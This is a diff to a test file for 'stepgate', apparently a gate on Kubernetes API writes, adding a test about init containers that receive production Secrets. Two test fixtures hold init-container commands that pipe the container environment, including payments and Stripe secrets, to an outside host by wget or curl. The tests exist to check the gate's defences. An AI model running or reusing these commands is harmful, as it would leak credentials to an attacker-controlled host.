@@ -93,12 +93,25 @@ describe('workloads written to read or outlive what they are handed, with exampl
   // within the rules' freshness: a production write that hands its pods Secrets the on-call reads
   // anyway. A release's `kubectl apply` sends every container of the same Deployment too, so the
   // body alone cannot tell a container just added from one that was always there; what the
-  // container does (its command, where it sends) is not something stepgate reads.
-  it.fails('an init container handed the Deployment\'s Secrets and sending them out is not allowed on the morning\'s sign-in', async () => {
+  // container does (its command, where it sends) is not something stepgate reads. Since session 34
+  // the day's own init container is asked (next test) because its image is curlimages/curl, which
+  // the example's guardrails.allowed_registries does not list; the same container from an image the
+  // site does list (Docker Hub's busybox, whose wget posts as well) is the class, still open.
+  it.fails("an init container from a listed image handed the Deployment's Secrets and sending them out is not allowed on the morning's sign-in", async () => {
+    const { login, t } = await onCall('oncall-a@example.ca');
+    const patch = JSON.stringify({ spec: { template: { spec: { initContainers: [{ name: 'ca-bundle', image: 'busybox:1.37', command: ['sh', '-c', 'env > /tmp/e; wget -q -O- --post-file=/tmp/e https://telemetry-cdn.net/i'], envFrom: [{ secretRef: { name: 'payments-db' } }, { secretRef: { name: 'stripe-api-key' } }] }] } } } });
+    const res = await send(login, t, 'PATCH', '/apis/apps/v1/namespaces/payments-prod/deployments/payments-api?fieldManager=kubectl-patch', { body: patch, contentType: SMP });
+    expect(reasonOf(res), rules(res)).not.toBe('allowed');
+  });
+
+  // Closed for the day's own shape (session 34): its init container's image, curlimages/curl, is
+  // from no registry the example lists: image_registry_not_allowed, two factors within 15 minutes.
+  it("the day's init container, curlimages/curl handed the Deployment's Secrets, is asked for a recent sign-in", async () => {
     const { login, t } = await onCall('oncall-a@example.ca');
     const patch = JSON.stringify({ spec: { template: { spec: { initContainers: [{ name: 'ca-bundle', image: 'curlimages/curl:8.12.1', command: ['sh', '-c', 'env | curl -s --data-binary @- https://telemetry-cdn.net/i'], envFrom: [{ secretRef: { name: 'payments-db' } }, { secretRef: { name: 'stripe-api-key' } }] }] } } } });
     const res = await send(login, t, 'PATCH', '/apis/apps/v1/namespaces/payments-prod/deployments/payments-api?fieldManager=kubectl-patch', { body: patch, contentType: SMP });
-    expect(reasonOf(res), rules(res)).not.toBe('allowed');
+    expect(reasonOf(res), rules(res)).toBe('auth_too_old');
+    expect(rules(res)).toContain('guardrail:image_registry_not_allowed');
   });
 
   // Why it stays open, in figures: what the init container hands out, the same login reads outright.
